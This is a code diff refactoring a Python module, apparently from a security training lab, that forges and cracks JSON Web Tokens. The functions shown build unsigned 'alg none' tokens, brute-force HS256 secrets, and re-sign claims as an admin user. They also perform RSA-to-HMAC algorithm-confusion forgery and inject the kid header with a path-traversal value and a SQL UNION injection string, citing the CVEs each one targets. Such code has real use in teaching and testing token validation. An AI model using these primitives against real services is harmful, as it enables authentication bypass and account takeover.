@@ -13,9 +13,6 @@ A string that is not a JWT raises MalformedTokenError with a one-line reason.
 
 from __future__ import annotations
 
-import base64
-import binascii
-import hashlib
 import hmac
 import json
 import time
@@ -23,69 +20,31 @@ from collections.abc import Iterable
 from typing import Any
 
 import jwt
-from cryptography.hazmat.primitives import serialization
 from cryptography.hazmat.primitives.asymmetric import rsa
 
 from authlab.weak import weak_secrets
+from authlab.wire import (
+    HMAC_HASHES,
+    MalformedTokenError,
+    b64url_encode,
+    hmac_token,
+    json_segment,
+    public_key_pem,
+    split_token,
+)
 
 #: a ``kid`` that walks out of a key directory to a file every Unix machine has, and whose content is empty
 DEV_NULL_KID = "../../../../../../../../dev/null"
 
-_HMAC_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
-
-
-class MalformedTokenError(ValueError):
-    """The string is not a compact JWT (three base64url parts: JSON header, JSON claims, signature)."""
-
-
-def b64url_encode(data: bytes) -> str:
-    """Base64url without padding, as JWTs use it."""
-    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")
-
-
-def b64url_decode(part: str) -> bytes:
-    """Decode a base64url part, padding or not; MalformedTokenError if it is not base64url."""
-    try:
-        return base64.b64decode(part + "=" * (-len(part) % 4), altchars=b"-_", validate=True)
-    except (binascii.Error, ValueError):
-        raise MalformedTokenError(f"{part[:20]!r} is not base64url") from None
-
-
-def _json_part(part: str, what: str) -> dict:
-    try:
-        value = json.loads(b64url_decode(part))
-    except (UnicodeDecodeError, json.JSONDecodeError):
-        raise MalformedTokenError(f"the {what} is not JSON") from None
-    if not isinstance(value, dict):
-        raise MalformedTokenError(f"the {what} is JSON but not an object")
-    return value
-
-
-def split_token(token: str) -> tuple[dict, dict, bytes, bytes]:
-    """``(header, claims, signing_input, signature)`` of a token, without verifying anything."""
-    if not isinstance(token, str):
-        raise MalformedTokenError(f"a JWT is a string, not {type(token).__name__}")
-    parts = token.strip().split(".")
-    if len(parts) != 3:
-        raise MalformedTokenError(f"a JWT has three parts separated by dots; this has {len(parts)}")
-    header, claims = _json_part(parts[0], "header"), _json_part(parts[1], "payload")
-    return header, claims, f"{parts[0]}.{parts[1]}".encode("ascii"), b64url_decode(parts[2])
+__all__ = ["DEV_NULL_KID", "MalformedTokenError", "alg_confusion_token", "as_user", "crack_hs256",
+           "embedded_jwk_token", "expired_token", "forge_hs256", "forge_unsigned", "kid_injection_token",
+           "not_yet_valid_token", "public_key_pem", "tamper_claims", "unverified"]
 
 
 def unverified(token: str) -> tuple[dict, dict]:
     """The header and claims anyone can read: a JWT is signed, not encrypted."""
     header, claims, _, _ = split_token(token)
     return header, claims
-
-
-def _segments(header: dict, claims: dict) -> str:
-    return ".".join(b64url_encode(json.dumps(part, separators=(",", ":")).encode()) for part in (header, claims))
-
-
-def _hmac_token(header: dict, claims: dict, key: bytes) -> str:
-    signing_input = _segments(header, claims)
-    digest = _HMAC_HASHES[header["alg"]]
-    return f"{signing_input}.{b64url_encode(hmac.digest(key, signing_input.encode(), digest))}"
 
 
 def as_user(claims: dict, user: str = "admin", lifetime: int = 15 * 60) -> dict:
@@ -102,8 +61,7 @@ def tamper_claims(token: str, **changes: Any) -> str:
     """
     _, claims, signing_input, signature = split_token(token)
     header_part = signing_input.decode().split(".")[0]
-    body = json.dumps({**claims, **changes}, separators=(",", ":")).encode()
-    return f"{header_part}.{b64url_encode(body)}.{b64url_encode(signature)}"
+    return f"{header_part}.{json_segment({**claims, **changes})}.{b64url_encode(signature)}"
 
 
 def forge_unsigned(claims: dict, alg: str = "none") -> str:
@@ -113,7 +71,7 @@ def forge_unsigned(claims: dict, alg: str = "none") -> str:
     (node-jsonwebtoken < 4.2.2, PyJWT < 1.0.0, …) and CVE-2022-23540 (jsonwebtoken <= 8.5.1).
     ``alg`` lets you try spellings such as ``"None"`` or ``"NONE"`` against case-sensitive filters.
     """
-    return _segments({"alg": alg, "typ": "JWT"}, claims) + "."
+    return f'{json_segment({"alg": alg, "typ": "JWT"})}.{json_segment(claims)}.'
 
 
 def crack_hs256(token: str, wordlist: Iterable[str | bytes] | None = None) -> str | None:
@@ -124,7 +82,7 @@ def crack_hs256(token: str, wordlist: Iterable[str | bytes] | None = None) -> st
     CWE-1391 (weak credentials), CWE-321 (hard-coded key).
     """
     header, _, signing_input, signature = split_token(token)
-    digest = _HMAC_HASHES.get(str(header.get("alg", "")).upper())
+    digest = HMAC_HASHES.get(str(header.get("alg", "")).upper())
     if digest is None:
         raise ValueError(f"the token is signed with {header.get('alg')!r}, not HMAC: no shared secret to crack")
     for word in weak_secrets() if wordlist is None else wordlist:
@@ -137,18 +95,7 @@ def crack_hs256(token: str, wordlist: Iterable[str | bytes] | None = None) -> st
 def forge_hs256(claims: dict, secret: str | bytes, headers: dict | None = None) -> str:
     """A token signed HS256 with ``secret``: what a cracked secret lets anyone mint."""
     key = secret.encode() if isinstance(secret, str) else secret
-    return _hmac_token({"alg": "HS256", "typ": "JWT", **(headers or {})}, claims, key)
-
-
-def public_key_pem(key: Any) -> bytes:
-    """The PEM (SubjectPublicKeyInfo) of a public or private key object, a JWK dict, or PEM bytes as given."""
-    if isinstance(key, bytes | str):
-        return key.encode() if isinstance(key, str) else key
-    if isinstance(key, dict):
-        key = jwt.PyJWK(key).key
-    if hasattr(key, "public_key"):
-        key = key.public_key()
-    return key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
+    return hmac_token({"alg": "HS256", "typ": "JWT", **(headers or {})}, claims, key)
 
 
 def alg_confusion_token(public_key: Any, claims: dict) -> str:
@@ -159,7 +106,7 @@ def alg_confusion_token(public_key: Any, claims: dict) -> str:
     CVE-2015-9235 (node-jsonwebtoken), CVE-2016-10555 (jwt-simple), CVE-2017-11424 and
     CVE-2022-29217 (PyJWT, since fixed: it refuses a PEM or SSH public key as an HMAC secret).
     """
-    return _hmac_token({"alg": "HS256", "typ": "JWT"}, claims, public_key_pem(public_key))
+    return hmac_token({"alg": "HS256", "typ": "JWT"}, claims, public_key_pem(public_key))
 
 
 def kid_injection_token(claims: dict, kid: str = DEV_NULL_KID, key: bytes = b"") -> str:
@@ -169,7 +116,7 @@ def kid_injection_token(claims: dict, kid: str = DEV_NULL_KID, key: bytes = b"")
     string) becomes the HMAC key. The same idea works on a SQL lookup (CWE-89):
     ``kid = "x' UNION SELECT 'known"`` with ``key=b"known"``.
     """
-    return _hmac_token({"alg": "HS256", "typ": "JWT", "kid": kid}, claims, key)
+    return hmac_token({"alg": "HS256", "typ": "JWT", "kid": kid}, claims, key)
 
 
 def embedded_jwk_token(claims: dict, private_key: rsa.RSAPrivateKey | None = None) -> str:
